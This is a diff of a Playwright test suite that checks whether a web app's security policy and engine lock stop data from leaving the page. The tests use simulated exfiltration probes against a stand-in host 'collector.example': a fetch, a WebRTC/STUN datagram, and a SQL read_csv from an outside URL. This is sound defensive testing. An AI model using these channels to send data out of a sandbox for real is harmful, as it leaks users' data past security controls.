@@ -1,5 +1,5 @@
 import { resolve } from 'node:path';
-import type { Browser } from '@playwright/test';
+import type { Browser, Page } from '@playwright/test';
 import { expect, test } from './fixtures.ts';
 import type { Canary } from './support/canary.ts';
 import { watchNetwork } from './support/network-watch.ts';
@@ -10,12 +10,13 @@ import { serveWeakened, withoutLock, withoutPolicy } from './support/static-serv
 const dist = resolve(import.meta.dirname, '../../dist');
 const outside = 'http://collector.example/leak';
 
-/** Runs `attempt` on a page of `origin` in a context of its own and answers what the network proof says about it. */
+/** Runs `attempt` on a page of `origin` in a context of its own and answers what the network proof says about it, once it says what `until` looks for. */
 async function proofOf(
   browser: Browser,
   origin: string,
   canary: Canary,
-  attempt: (page: Awaited<ReturnType<Browser['newPage']>>) => Promise<unknown>,
+  until: RegExp,
+  attempt: (page: Page) => Promise<unknown>,
 ): Promise<string[]> {
   const context = await browser.newContext({ baseURL: `${origin}/` });
   try {
@@ -23,8 +24,8 @@ async function proofOf(
     const page = await context.newPage();
     await attempt(page);
     await expect
-      .poll(() => watch.report().length, { timeout: 3_000 })
-      .toBeGreaterThan(0)
+      .poll(() => watch.report().join('\n'), { timeout: 5_000 })
+      .toMatch(until)
       .catch(() => undefined);
     return watch.report();
   } finally {
@@ -63,7 +64,7 @@ test('the page says that its engine is locked, because the engine said so', asyn
 
 test.describe('the proof can fail', () => {
   test('with the policy, a script that calls out is stopped before the wire and reported', async ({ browser, baseURL, canary }) => {
-    const report = await proofOf(browser, new URL(baseURL ?? '').origin, canary, async (page) => {
+    const report = await proofOf(browser, new URL(baseURL ?? '').origin, canary, /policy violation/, async (page) => {
       await visit(page);
       expect(await page.evaluate(fetchOutside, outside)).toBe('stopped');
     });
@@ -74,7 +75,7 @@ test.describe('the proof can fail', () => {
 
   test('without the policy the same script reaches the canary, and the proof turns red', async ({ browser, canary }) => {
     const server = await serveWeakened(dist, withoutPolicy);
-    const report = await proofOf(browser, server.origin, canary, async (page) => {
+    const report = await proofOf(browser, server.origin, canary, /reached the canary/, async (page) => {
       await visit(page);
       expect(await page.evaluate(fetchOutside, outside)).toBe('sent');
     });
@@ -86,7 +87,7 @@ test.describe('the proof can fail', () => {
 
   test('without the policy a datagram reaches the canary, and the proof turns red', async ({ browser, canary }) => {
     const server = await serveWeakened(dist, withoutPolicy);
-    const report = await proofOf(browser, server.origin, canary, async (page) => {
+    const report = await proofOf(browser, server.origin, canary, /canary: udp/, async (page) => {
       await visit(page);
       await page.evaluate(async (port) => {
         const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:collector.example:${port}` }] });
@@ -115,7 +116,7 @@ test.describe('the proof can fail', () => {
   test('with the lock opened, either the engine refuses to start or the proof turns red', async ({ browser, canary }) => {
     const server = await serveWeakened(dist, (path, text) => withoutLock(path, withoutPolicy(path, text)));
     let refusedToStart = false;
-    const report = await proofOf(browser, server.origin, canary, async (page) => {
+    const report = await proofOf(browser, server.origin, canary, /collector\.example/, async (page) => {
       await visit(page);
       await startEngine(page).catch(() => (refusedToStart = true));
       await call(page, 'sql', `select * from read_csv('${outside}')`).catch(() => undefined);
@@ -126,7 +127,7 @@ test.describe('the proof can fail', () => {
   });
 
   test('a request to our own origin after the engine is ready turns the proof red', async ({ browser, baseURL, canary }) => {
-    const report = await proofOf(browser, new URL(baseURL ?? '').origin, canary, async (page) => {
+    const report = await proofOf(browser, new URL(baseURL ?? '').origin, canary, /after the engine was ready/, async (page) => {
       await visit(page);
       await startEngine(page);
       await page.evaluate(() => fetch('./favicon.svg?leak=1').then(() => undefined));
